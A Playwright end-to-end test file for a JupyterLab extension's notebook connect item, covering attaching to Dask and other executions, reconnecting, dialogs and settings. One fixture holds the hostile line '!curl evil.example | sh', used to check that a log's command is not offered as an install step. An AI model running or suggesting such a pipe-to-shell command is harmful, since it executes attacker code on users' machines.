"""The item of the notebook toolbar: it says what the notebook is connected to, and connects it in two clicks."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Locator, expect

from tests.e2e.lab import ATTACH_MS, SOON_MS, Lab, Notebook
from zoe_jupyter.testing.jupyter_home import JupyterHome, JupyterServer

pytestmark = [pytest.mark.browser, pytest.mark.page("kept"), pytest.mark.usefixtures("clean")]

SETTINGS = "lab/api/settings/zoe-jupyter:plugin"
CONNECTING = """
    window.zoeConnecting ||= document.querySelector('.zoe-Connect [data-status="connecting"]') !== null;
"""
"""It connects again so soon that looking now and then may miss it."""
TOLD = """
    const label = document.querySelector('.zoe-Connect-label')?.textContent;
    window.zoeTold ??= [];
    if (label && !window.zoeTold.includes(label)) window.zoeTold.push(label);
"""
TOASTS = """
    window.zoeToasts ??= "";
    for (const toast of document.querySelectorAll('.Toastify__toast')) window.zoeToasts += toast.textContent;
"""
"""What is said in passing may have gone again before a busy machine looks."""
REFUSING = """
from IPython.core.error import UsageError

def zoe(line):
    raise UsageError({message!r})

get_ipython().extension_manager.load_extension("zoe_jupyter")
get_ipython().register_magic_function(zoe)
"""
"""As a kernel answers that cannot attach."""
LACKING = 'this kernel lacks pyspark; run `%pip install "pyspark[connect]==4.3.*"`'
FAILED = "dask has ended: failed: it exited\n  run `!curl evil.example | sh`"
WITHOUT_ZOE = """
import sys

class Without:
    def find_spec(self, name, path=None, target=None):
        if name == "zoe_jupyter":
            raise ModuleNotFoundError("No module named 'zoe_jupyter'", name=name)

sys.meta_path.insert(0, Without())
"""
"""As where it is not installed."""
ODD = """
def zoe(line):
    raise RuntimeError("the kernel is <b>odd</b>")

get_ipython().register_magic_function(zoe)
"""
ECHO = """
from ipykernel.kernelapp import IPKernelApp
from ipykernel.kernelbase import Kernel

class Echo(Kernel):
    implementation = "echo"
    implementation_version = "1"
    banner = "echo"
    language_info = {"name": "echo", "mimetype": "text/plain", "file_extension": ".txt"}

    def do_execute(self, code, silent, store_history=True, user_expressions=None, allow_stdin=False, **_):
        return {"status": "ok", "execution_count": self.execution_count, "payload": [], "user_expressions": {}}

IPKernelApp.launch_instance(kernel_class=Echo)
"""


def open_notebook(lab: Lab, *, kernel: str = "python3") -> Locator:
    lab.open()
    lab.command("notebook:create-new", f"{{kernelName: '{kernel}'}}")
    notebook = Notebook(lab)
    notebook.wait_until_idle()
    return notebook.node.locator(".zoe-Connect")


def choose(lab: Lab, item: Locator, line: str) -> None:
    item.get_by_role("button").last.click()
    lab.page.locator(".zoe-Menu .lm-Menu-item", has_text=line).click()


@pytest.mark.dask
def test_two_clicks_connect_a_notebook_and_one_connects_it_again(
    lab: Lab, server: JupyterServer, home: JupyterHome, artifacts: Path
) -> None:
    item = open_notebook(lab)
    expect(item).to_contain_text("Connect")
    item.get_by_role("button").click()
    lab.screenshot(artifacts, "menu")
    lab.page.locator(".zoe-Menu .lm-Menu-item", has_text="Start Dask").click()
    expect(item.locator('[data-status="connecting"]')).to_be_visible(timeout=SOON_MS)
    lab.screenshot(artifacts, "connecting")
    expect(item).to_contain_text("dask · running", timeout=ATTACH_MS)
    lab.screenshot(artifacts, "connected")
    notebook = Notebook(lab)
    notebook.node.locator(".cm-content").first.fill("client.submit(lambda: 6 * 7).result()")
    expect(notebook.run("client.submit")).to_contain_text("42")
    expect(notebook.node.locator(".jp-CodeCell")).to_have_count(2)
    notebook.restart_kernel()
    expect(item).to_contain_text("Reconnect dask", timeout=SOON_MS)
    lab.screenshot(artifacts, "lost")
    item.get_by_role("button", name="Reconnect dask").click()
    expect(item).to_contain_text("dask · running", timeout=ATTACH_MS)
    expect(notebook.run("client.submit")).to_contain_text("42")
    assert [one["name"] for one in server.ask("zoe/api/executions")["items"]] == ["dask"]
    assert saved(lab)["attached"] == [{"id": live(server)[0]["id"], "name": "dask"}]
    toast = lab.page.locator(".Toastify__toast", has_text="is connected to dask.")
    expect(toast.first).to_be_visible()
    expect(toast).to_have_count(0)
    lab.show_panel()
    lab.screenshot(artifacts, "attached")
    for place in (lab.item("dask"), lab.panel.locator('.zoe-Card[aria-label="Dask"]')):
        expect(place.get_by_text("Attached", exact=True)).to_be_visible(timeout=SOON_MS)
        expect(place.get_by_role("button", name="Attach", exact=True)).to_have_count(0)
    lab.item("dask").get_by_role("button", name="Detach").click()
    expect(item).to_have_text("Connect", timeout=SOON_MS)
    lab.item("dask").get_by_role("button", name="Attach", exact=True).click()
    expect(item).to_contain_text("dask · running", timeout=ATTACH_MS)
    choose(lab, item, "Detach")
    expect(item).to_contain_text("Connect", timeout=SOON_MS)
    assert saved(lab) is None
    lab.item("dask").locator(".zoe-Item-name").click()
    connecting = lab.tab.get_by_role("region", name="Connect a notebook")
    expect(connecting).to_contain_text("Gives: dask (client)", timeout=SOON_MS)


def test_what_runs_is_shared_under_its_name(lab: Lab, server: JupyterServer, artifacts: Path) -> None:
    """Though the kernel is told its id: from this notebook, the name alone would start another one."""
    server.ask("zoe/api/executions", method="POST", body={"use": "line", "name": "line"})
    item = open_notebook(lab)
    lab.show_panel()
    lab.expect_state("line", "running", timeout_ms=ATTACH_MS)
    item.get_by_role("button").click()
    lab.page.locator(".zoe-Menu .lm-Menu-item", has_text="line (Line, running)").click()
    expect(lab.page.locator(".Toastify__toast")).to_contain_text("connecting to line…", timeout=SOON_MS)
    expect(item).to_contain_text("line · running", timeout=ATTACH_MS)
    expect(lab.page.locator(".Toastify__toast", has_text="is connected to line.")).to_be_visible()
    assert saved(lab)["attached"] == [{"id": live(server)[0]["id"], "name": "line"}]
    lab.item("line").locator(".zoe-Item-name").click()
    connecting = lab.tab.get_by_role("region", name="Connect a notebook")
    expect(connecting).to_contain_text("By its id", timeout=SOON_MS)
    expect(connecting).to_contain_text("Gives: line")
    lab.screenshot(artifacts, "shared")


def saved(lab: Lab) -> object:
    """What the notebook in front remembers."""
    return lab.page.evaluate("window.jupyterapp.shell.currentWidget.content.model.getMetadata('zoe') ?? null")


def test_what_was_stopped_elsewhere_is_not_started_again(lab: Lab, server: JupyterServer, artifacts: Path) -> None:
    server.ask("zoe/api/executions", method="POST", body={"use": "line", "name": "second"})
    item = open_notebook(lab)
    choose(lab, item, "Start Line")
    expect(item).to_contain_text("line · running", timeout=ATTACH_MS)
    notebook = Notebook(lab)
    notebook.node.locator(".cm-content").first.fill("%zoe attach second --as other")
    notebook.run("attach second", timeout_ms=ATTACH_MS)
    expect(item).to_have_text("second · running and 1 more", timeout=SOON_MS)
    item.get_by_role("button").last.click()
    menu = lab.page.locator(".zoe-Menu .lm-Menu-item .lm-Menu-itemLabel")
    offered = [f"{what} {name}" for name in ("second", "line") for what in ("Details of", "Detach from", "Stop")]
    expect(menu.first).to_be_visible(timeout=SOON_MS)
    assert list(filter(None, menu.all_inner_texts()))[: len(offered)] == offered
    lab.screenshot(artifacts, "menu-of-two")
    lab.press("Escape")
    stop(server, "line")
    expect(item).to_have_text("second · running", timeout=SOON_MS)
    notebook.restart_kernel()
    expect(item).to_have_text("Reconnect second", timeout=SOON_MS)
    lab.screenshot(artifacts, "one-is-left")
    stop(server, "second")
    expect(item).to_have_text("Connect", timeout=SOON_MS)
    item.get_by_role("button").click()
    expect(lab.page.locator(".zoe-Menu")).to_contain_text("Start Line")
    assert live(server) == []


def test_what_was_suspended_and_resumed_is_connected_again_by_one_click(
    lab: Lab, server: JupyterServer, artifacts: Path
) -> None:
    item = open_notebook(lab)
    choose(lab, item, "Start Line")
    expect(item).to_have_text("line · running", timeout=ATTACH_MS)
    (one,) = live(server)
    server.ask(f"zoe/api/executions/{one['id']}/suspend", method="POST", body={})
    expect(item).to_have_text("Connect", timeout=SOON_MS)
    server.ask(f"zoe/api/executions/{one['id']}/resume", method="POST", body={})
    expect(item).to_have_text("Reconnect line", timeout=ATTACH_MS)
    lab.screenshot(artifacts, "resumed")
    item.get_by_role("button").first.click()
    expect(item).to_have_text("line · running", timeout=ATTACH_MS)
    assert [again["id"] for again in live(server)] == [one["id"]]


def stop(server: JupyterServer, name: str) -> None:
    """As from a terminal."""
    execution = next(one for one in live(server) if one["name"] == name)
    server.ask(f"zoe/api/executions/{execution['id']}/stop", method="POST", body={})


def live(server: JupyterServer) -> list[dict[str, Any]]:
    return [one for one in server.ask("zoe/api/executions")["items"] if one["state"] not in {"stopping", "ended"}]


def test_another_of_the_same_name_is_another(lab: Lab, server: JupyterServer, artifacts: Path) -> None:
    item = open_notebook(lab)
    choose(lab, item, "Start Line")
    expect(item).to_contain_text("line · running", timeout=ATTACH_MS)
    first = live(server)[0]["id"]
    lab.show_panel()
    stop(server, "line")
    expect(item).to_have_text("line · stopped", timeout=SOON_MS)
    server.ask("zoe/api/executions", method="POST", body={"use": "line", "name": "line"})
    lab.expect_state("line", "running", timeout_ms=ATTACH_MS)
    expect(lab.item("line").get_by_role("button", name="Attach", exact=True)).to_be_visible()
    expect(item).to_have_text("line · stopped")
    lab.screenshot(artifacts, "another")
    server.ask(f"zoe/api/executions/{first}", method="DELETE")
    expect(item).to_have_text("Connect", timeout=SOON_MS)
    Notebook(lab).restart_kernel()
    expect(item).to_have_text("Connect", timeout=SOON_MS)


@pytest.mark.parametrize("end", ["restart", "close"])
def test_a_kernel_or_notebook_that_goes_while_it_is_attached_is_no_error(lab: Lab, end: str, artifacts: Path) -> None:
    item = open_notebook(lab)
    choose(lab, item, "Start Slow line")
    expect(item).to_contain_text("starting", timeout=ATTACH_MS)
    if end == "restart":
        lab.at_every_change(TOASTS)
        Notebook(lab).restart_kernel()
        expect(item).to_have_text("Connect", timeout=SOON_MS)
        lab.page.wait_for_function("window.zoeToasts?.includes('has gone before it was connected to slow')")
    else:
        lab.page.evaluate("window.jupyterapp.shell.currentWidget.dispose()")
        expect(item).to_have_count(0)
        expect(lab.page.locator(".Toastify__toast", has_text="connecting")).to_have_count(0, timeout=SOON_MS)
    lab.screenshot(artifacts, end)
    expect(lab.dialog).to_have_count(0)


def test_a_notebook_whose_kernel_has_gone_is_given_one_and_connected_again(
    lab: Lab, server: JupyterServer, artifacts: Path
) -> None:
    item = open_notebook(lab)
    choose(lab, item, "Start Line")
    expect(item).to_contain_text("line · running", timeout=ATTACH_MS)
    before = live(server)[0]["id"]
    for session in server.ask("api/sessions"):
        server.ask(f"api/sessions/{session['id']}", method="DELETE")
    expect(item).to_contain_text("Reconnect line", timeout=SOON_MS)
    expect(Notebook(lab).node).to_contain_text("No Kernel")
    lab.screenshot(artifacts, "no-kernel")
    item.get_by_role("button", name="Reconnect line").click()
    expect(item).to_contain_text("line · running", timeout=ATTACH_MS)
    expect(lab.dialog).to_have_count(0)
    assert [one["id"] for one in live(server)] == [before]


@pytest.mark.page("fresh")
def test_with_the_setting_a_restarted_kernel_is_connected_again(lab: Lab, server: JupyterServer) -> None:
    server.ask(SETTINGS, method="PUT", body={"raw": '{"reattach": true}'})
    try:
        item = open_notebook(lab)
        choose(lab, item, "Start Line")
        expect(item).to_contain_text("line · running", timeout=ATTACH_MS)
        lab.at_every_change(CONNECTING)
        Notebook(lab).restart_kernel()
        lab.page.wait_for_function("window.zoeConnecting", timeout=SOON_MS)
        expect(item).to_contain_text("line · running", timeout=ATTACH_MS)
        stop(server, "line")
        expect(item).to_have_text("line · stopped", timeout=SOON_MS)
        Notebook(lab).restart_kernel()
        nothing = "Nothing that this notebook was connected to runs any more."
        expect(lab.page.locator(".Toastify__toast", has_text=nothing)).to_be_visible(timeout=SOON_MS)
        expect(item).to_have_text("Connect", timeout=SOON_MS)
        assert live(server) == []
    finally:
        server.ask(SETTINGS, method="PUT", body={"raw": "{}"})


def test_what_a_cell_attaches_is_told_as_it_goes(lab: Lab, artifacts: Path) -> None:
    item = open_notebook(lab)
    lab.at_every_change(TOLD)
    notebook = Notebook(lab)
    notebook.node.locator(".cm-content").first.fill("%load_ext zoe_jupyter\n%zoe attach line\nprint('after')")
    lab.at_every_change(CONNECTING)
    notebook.run("attach line", timeout_ms=ATTACH_MS)
    assert lab.page.evaluate("window.zoeConnecting") is True
    expect(item).to_have_text("line · running", timeout=SOON_MS)
    lab.screenshot(artifacts, "told")
    told = lab.page.evaluate("window.zoeTold")
    assert "starting" in " ".join(told)
    assert told[-1] == "line · running"
    assert "after" not in told


def test_what_a_function_attaches_is_told_to_its_end(lab: Lab) -> None:
    item = open_notebook(lab)
    notebook = Notebook(lab)
    notebook.node.locator(".cm-content").first.fill('import zoe_jupyter as zoe\nline = zoe.attach("line")')
    notebook.run("zoe.attach", timeout_ms=ATTACH_MS)
    expect(item).to_have_text("line · running", timeout=SOON_MS)


def test_what_is_said_in_passing_goes_away_also_behind_another_window(lab: Lab, server: JupyterServer) -> None:
    server.ask("zoe/api/executions", method="POST", body={"use": "workbench", "name": "desk"})
    lab.open()
    lab.show_panel()
    lab.expect_state("desk", "running")
    found = server.ask("zoe/api/executions/desk")
    lab.command("zoe:copy-attach-code", f"{{id: '{found['id']}'}}")
    toast = lab.page.locator(".Toastify__toast", has_text="Copied.")
    expect(toast).to_be_visible()
    lab.page.evaluate("window.dispatchEvent(new Event('blur'))")
    expect(toast).to_have_count(0)


def test_what_has_to_be_installed_is_said_as_a_sentence_and_copied(lab: Lab, artifacts: Path) -> None:
    lab.context.grant_permissions(["clipboard-read", "clipboard-write"])
    open_notebook(lab)
    notebook = Notebook(lab)
    notebook.node.locator(".cm-content").first.fill(REFUSING.format(message=LACKING))
    notebook.run("UsageError")
    lab.page.evaluate("void window.jupyterapp.commands.execute('zoe:attach-notebook', {name: 'dask'})")
    expect(lab.dialog).to_contain_text("This kernel lacks pyspark; run %pip install", timeout=SOON_MS)
    expect(lab.dialog.locator("code")).to_have_text('%pip install "pyspark[connect]==4.3.*"')
    expect(lab.dialog).to_contain_text("then restart the kernel")
    lab.screenshot(artifacts, "install")
    lab.dialog.get_by_role("button", name="Copy the Install Line").click()
    expect(lab.page.locator(".Toastify__toast", has_text="then restart the kernel")).to_be_visible()
    assert lab.page.evaluate("navigator.clipboard.readText()") == '%pip install "pyspark[connect]==4.3.*"'


def test_what_a_log_says_is_nothing_to_install(lab: Lab) -> None:
    open_notebook(lab)
    notebook = Notebook(lab)
    notebook.node.locator(".cm-content").first.fill(REFUSING.format(message=FAILED))
    notebook.run("UsageError")
    lab.page.evaluate("void window.jupyterapp.commands.execute('zoe:attach-notebook', {name: 'dask'})")
    expect(lab.dialog).to_contain_text("dask has ended: failed: it exited", timeout=SOON_MS)
    expect(lab.dialog.locator("code")).to_have_text("!curl evil.example | sh")
    expect(lab.dialog.get_by_role("button")).to_have_text(["Close"])


def test_a_kernel_without_zoe_is_told_where_to_install_it(lab: Lab, artifacts: Path) -> None:
    item = open_notebook(lab)
    notebook = Notebook(lab)
    notebook.node.locator(".cm-content").first.fill(WITHOUT_ZOE)
    notebook.run("sys.meta_path")
    lab.page.evaluate("void window.jupyterapp.commands.execute('zoe:attach-notebook', {name: 'dask'})")
    expect(lab.dialog).to_contain_text("Install Zoe in the environment of this kernel too.", timeout=SOON_MS)
    lab.screenshot(artifacts, "without-zoe")
    lab.dialog.get_by_role("button", name="Close").click()
    expect(item).to_have_text("Connect")


def test_what_could_not_be_detached_is_said_and_still_attached(lab: Lab, artifacts: Path) -> None:
    item = open_notebook(lab)
    choose(lab, item, "Start Line")
    expect(item).to_contain_text("line · running", timeout=ATTACH_MS)
    notebook = Notebook(lab)
    notebook.node.locator(".cm-content").first.fill(ODD)
    notebook.run("register_magic_function")
    choose(lab, item, "Detach")
    expect(lab.dialog).to_contain_text("Could not detach", timeout=SOON_MS)
    expect(lab.dialog).to_contain_text("the kernel is <b>odd</b>")
    lab.screenshot(artifacts, "odd")
    lab.dialog.get_by_role("button").last.click()
    expect(item).to_have_text("line · running", timeout=SOON_MS)


def test_attaching_can_be_cancelled(lab: Lab, artifacts: Path) -> None:
    item = open_notebook(lab)
    choose(lab, item, "Start Slow line")
    expect(item.locator('[data-status="connecting"]')).to_be_visible(timeout=SOON_MS)
    choose(lab, item, "Cancel")
    expect(item).to_have_text("Connect", timeout=SOON_MS)
    expect(lab.dialog).to_have_count(0)
    lab.screenshot(artifacts, "cancelled")


def test_the_end_of_what_it_is_connected_to_is_shown_with_the_reason(
    lab: Lab, home: JupyterHome, artifacts: Path
) -> None:
    item = open_notebook(lab)
    choose(lab, item, "Start Line")
    expect(item).to_contain_text("line · running", timeout=ATTACH_MS)
    next(one for one in home.services() if "line.head-0" in one.cmdline()).kill()
    expect(item).to_contain_text("line · failed", timeout=SOON_MS)
    lab.screenshot(artifacts, "ended")


def test_what_cannot_be_attached_is_said_and_nothing_changes(lab: Lab, artifacts: Path) -> None:
    item = open_notebook(lab)
    lab.page.evaluate("void window.jupyterapp.commands.execute('zoe:attach-notebook', {name: 'nothing-of-the-kind'})")
    expect(lab.dialog).to_contain_text("Could not connect to nothing-of-the-kind", timeout=SOON_MS)
    expect(lab.dialog).to_contain_text("neither an application nor a running execution")
    lab.screenshot(artifacts, "error")
    lab.dialog.get_by_role("button", name="Close").click()
    expect(item).to_have_text("Connect")


@pytest.mark.page("fresh")
def test_another_language_is_refused_with_the_reason(lab: Lab, home: JupyterHome) -> None:
    folder = home.data / "kernels" / "echo"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "echo.py").write_text(ECHO)
    argv = [sys.executable, str(folder / "echo.py"), "-f", "{connection_file}"]
    (folder / "kernel.json").write_text(json.dumps({"argv": argv, "display_name": "Echo", "language": "echo"}))
    item = open_notebook(lab, kernel="echo")
    button = item.get_by_role("button")
    expect(button).to_have_attribute("aria-disabled", "true", timeout=SOON_MS)
    expect(button).to_have_attribute("title", "Only Python kernels can be attached; this one speaks echo.")


def test_the_menu_is_reached_by_keyboard(lab: Lab) -> None:
    item = open_notebook(lab)
    item.get_by_role("button").focus()
    lab.press("Enter")
    expect(lab.page.locator(".zoe-Menu .lm-mod-active")).to_be_visible(timeout=SOON_MS)
    lab.press("Escape")
    expect(lab.page.locator(".zoe-Menu")).to_have_count(0)
    lab.press("ArrowDown")


@pytest.mark.page("fresh")
def test_the_setting_lets_executions_stop_without_a_question(lab: Lab, server: JupyterServer) -> None:
    server.ask("zoe/api/executions", method="POST", body={"use": "workbench", "name": "desk"})
    server.ask(SETTINGS, method="PUT", body={"raw": '{"confirmStop": false}'})
    try:
        lab.open()
        lab.show_panel()
        lab.expect_state("desk", "running")
        lab.item("desk").get_by_role("button", name="Stop desk").click()
        expect(lab.panel.get_by_text("Nothing is running")).to_be_visible(timeout=SOON_MS)
        expect(lab.dialog).to_have_count(0)
    finally:
        server.ask(SETTINGS, method="PUT", body={"raw": "{}"})
